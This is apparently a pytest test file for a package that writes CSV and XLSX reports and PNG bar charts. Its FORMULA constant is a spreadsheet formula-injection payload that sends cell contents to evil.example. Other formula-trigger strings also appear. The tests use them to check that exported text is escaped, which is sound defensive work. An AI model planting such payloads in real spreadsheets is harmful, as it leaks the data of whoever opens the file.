from __future__ import annotations

import csv
import io
import sys
import zipfile
from collections.abc import Callable
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from PIL import Image, ImageFont

from notifier.errors import ConfigurationError, InvalidReport
from notifier.reports import bar_chart, chart, csv_file, xlsx_file
from notifier.reports.chart import _round_top
from notifier.reports.result import ReportFile

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


def test_a_csv_holds_its_rows_in_utf_8_that_excel_reads() -> None:
    file = csv_file("orders.csv", [('Zoë, "the" first', 3), ("京", -1.5)], columns=("name", "orders"))
    assert file.data.startswith("\ufeff".encode())
    read = list(csv.reader(io.StringIO(file.data.decode("utf-8-sig"), newline="")))
    assert read == [["name", "orders"], ['Zoë, "the" first', "3"], ["京", "-1.5"]]


class Translated:
    """As texts that Django translates late: no str."""

    def __str__(self) -> str:
        return FORMULA


def sheet_of(file: ReportFile) -> tuple[str, str]:
    """Its cells, and the texts that they point at."""
    with zipfile.ZipFile(io.BytesIO(file.data)) as book:
        return book.read("xl/worksheets/sheet1.xml").decode(), book.read("xl/sharedStrings.xml").decode()


@pytest.mark.parametrize(
    "text",
    [FORMULA, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1", Translated()],
    ids=lambda text: repr(str(text)),
)
def test_text_in_a_csv_is_no_formula(text: object) -> None:
    data = csv_file("x.csv", [(text,)], columns=[text]).data.decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(data, newline="")))
    assert [row[0][0] for row in read] == ["'", "'"]


def test_a_spreadsheet_that_parts_cells_by_semicolons_finds_no_formula_behind_one() -> None:
    data = csv_file("x.csv", [("Zoë;=1+1", 3)]).data.decode("utf-8-sig")
    (row,) = csv.reader(io.StringIO(data, newline=""), delimiter=";")
    assert row[0].startswith("Zoë;=1+1")


@pytest.mark.parametrize("write", [csv_file, xlsx_file])
@pytest.mark.parametrize("row", [{"name": "Zoë"}, "Zoë", 3])
def test_a_row_that_is_no_list_of_cells_is_refused(write: Callable[..., ReportFile], row: Any) -> None:
    with pytest.raises(InvalidReport, match="a row of a table is a list or a tuple"):
        write("x", [row])


@pytest.mark.parametrize("write", [csv_file, xlsx_file])
def test_half_of_a_surrogate_pair_is_a_question_mark(write: Callable[..., ReportFile]) -> None:
    assert write("x", [("Zo\ud800",)]).data


def test_numbers_in_a_workbook_are_numbers_unless_they_would_lose_digits() -> None:
    cells, texts = sheet_of(xlsx_file("x.xlsx", [(Decimal("1.5"), 10**15, Decimal("NaN"), float("inf"), 10**400)]))
    assert '<c r="A1"><v>1.5</v>' in cells
    assert all(f"<t>{text}</t>" in texts for text in ("1000000000000000", "NaN", "inf", 10**400))


def test_a_day_before_a_spreadsheets_first_is_text() -> None:
    assert "<t>1899-12-31</t>" in sheet_of(xlsx_file("x.xlsx", [(date(1899, 12, 31),)]))[1]


@pytest.mark.parametrize(
    ("rows", "sheet", "words"),
    [([range(16_385)], "Report", "16,384 cells"), ([], "11/2026", "no name of a sheet"), ([], "x" * 32, "31 chars")],
)
def test_what_a_sheet_cannot_hold_is_refused(rows: list[Any], sheet: str, words: str) -> None:
    with pytest.raises(InvalidReport, match=words):
        xlsx_file("x.xlsx", rows, sheet=sheet)


def test_text_in_a_workbook_is_no_formula_and_no_link() -> None:
    file = xlsx_file("x.xlsx", [(FORMULA, "https://example.com", 3, None, True, Decimal("1.5"))], columns=("a",) * 6)
    with zipfile.ZipFile(io.BytesIO(file.data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert not [name for name in book.namelist() if "rels" in name and "sheet1" in name]
    assert "<f>" not in sheet


def test_a_workbook_holds_days_and_moments() -> None:
    file = xlsx_file("x.xlsx", [(date(2026, 11, 27), datetime(2026, 11, 27, 8, tzinfo=UTC))])
    with zipfile.ZipFile(io.BytesIO(file.data)) as book:
        assert "<v>46353</v>" in book.read("xl/worksheets/sheet1.xml").decode()


def test_a_chart_is_an_image_of_few_octets_that_a_mail_can_show() -> None:
    chart = bar_chart(
        "days.png", [f"11-{day}" for day in range(1, 29)], {"sent": [*range(27), 1000], "failed": [0] * 28}
    )
    image = Image.open(io.BytesIO(chart.data))
    assert (image.format, chart.inline) == ("PNG", True)
    assert len(chart.data) < 20_000
    assert chart.url.startswith("cid:")


def test_two_bars_stand_in_their_proportion() -> None:
    image = Image.open(io.BytesIO(bar_chart("x.png", ["a", "b"], {"n": [10, 5]}).data)).convert("RGB")
    blue = (47, 111, 222)
    columns = {x: sum(image.getpixel((x, y)) == blue for y in range(image.height)) for x in (350, 850)}
    assert columns[350] == pytest.approx(2 * columns[850], abs=3)


@pytest.mark.parametrize("labels", [["a"], []])
def test_a_chart_of_nothing_is_drawn_as_well(labels: list[str]) -> None:
    assert bar_chart("x.png", labels, {"n": [0] * len(labels)}).data


def test_numbers_of_a_database_are_drawn() -> None:
    amounts: dict[str, list[float | Decimal]] = {"a": [Decimal("2.5"), Decimal(5)], "b": [2.5, 0]}
    assert (
        bar_chart("x.png", ["a", "b"], amounts).data
        == bar_chart("x.png", ["a", "b"], {"a": [2.5, 5], "b": [2.5, 0]}).data
    )


def test_labels_may_be_anything_that_has_words() -> None:
    labels = [2026, date(2026, 11, 28), "two\nlines", ""]
    assert bar_chart("x.png", labels, {"more\nlines": [1] * 4}).data


@pytest.mark.long
def test_a_label_without_end_takes_no_place_from_others() -> None:
    with_long = bar_chart("x.png", ["a" * 10**6, "b", "c", "d"], {"n" * 10**6: [1] * 4, "m": [1] * 4})
    same = bar_chart("x.png", ["a" * 500, "b", "c", "d"], {"n" * 500: [1] * 4, "m": [1] * 4})
    assert with_long.data == same.data


def test_letters_are_drawn_by_the_font_that_is_given(tmp_path: Path) -> None:
    file = tmp_path / "own.ttf"
    own: Any = ImageFont.load_default(24)
    file.write_bytes(own.path.getvalue())
    assert bar_chart("x.png", ["a"], {"n": [1]}, font=file).data


def test_without_a_font_of_the_host_the_chart_is_drawn_all_the_same(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(chart, "HOSTS_FONT", "nowhere.ttf")
    assert bar_chart("x.png", ["Zoë"], {"n": [1]}).data


def test_a_font_that_cannot_be_read_is_told() -> None:
    with pytest.raises(InvalidReport, match=r"'nowhere\.ttf', cannot be read"):
        bar_chart("x.png", ["a"], {"n": [1]}, font="nowhere.ttf")


@pytest.mark.parametrize(
    ("most", "top"),
    [
        (0, 1),
        (1, 1),
        (3, 5),
        (10, 10),
        (11, 20),
        (999, 1000),
        (1001, 2000),
        (0.02, 0.02),
        (0.003, 0.005),
        (5e-324, 1e-100),
    ],
)
def test_the_scale_ends_at_a_round_number(most: float, top: float) -> None:
    assert _round_top(most) == top


@pytest.mark.parametrize(
    ("labels", "series"),
    [
        (["a"], {}),
        (["a"], {"n": [1, 2]}),
        (["a"] * 63, {"n": [1] * 63}),
        *((["a"], {"n": [value]}) for value in (-1, float("nan"), Decimal("NaN"), None, "1", 10**400)),
    ],
)
def test_numbers_that_cannot_be_shown_are_refused(labels: list[str], series: dict[str, list[Any]]) -> None:
    with pytest.raises(InvalidReport):
        bar_chart("x.png", labels, series)


@pytest.mark.parametrize(
    ("module", "make"),
    [("xlsxwriter", lambda: xlsx_file("x.xlsx", [(1,)])), ("PIL", lambda: bar_chart("x.png", ["a"], {"n": [1]}))],
)
def test_without_its_library_the_extra_is_named(
    monkeypatch: pytest.MonkeyPatch, module: str, make: Callable[[], object]
) -> None:
    monkeypatch.setitem(sys.modules, module, None)  # as where it is not installed
    with pytest.raises(ConfigurationError, match=r"pip install 'notifier-worker\[reports\]'"):
        make()


def test_a_csv_needs_no_library(monkeypatch: pytest.MonkeyPatch) -> None:
    for module in ("xlsxwriter", "PIL"):
        monkeypatch.setitem(sys.modules, module, None)
    assert csv_file("x.csv", [(1,)]).data
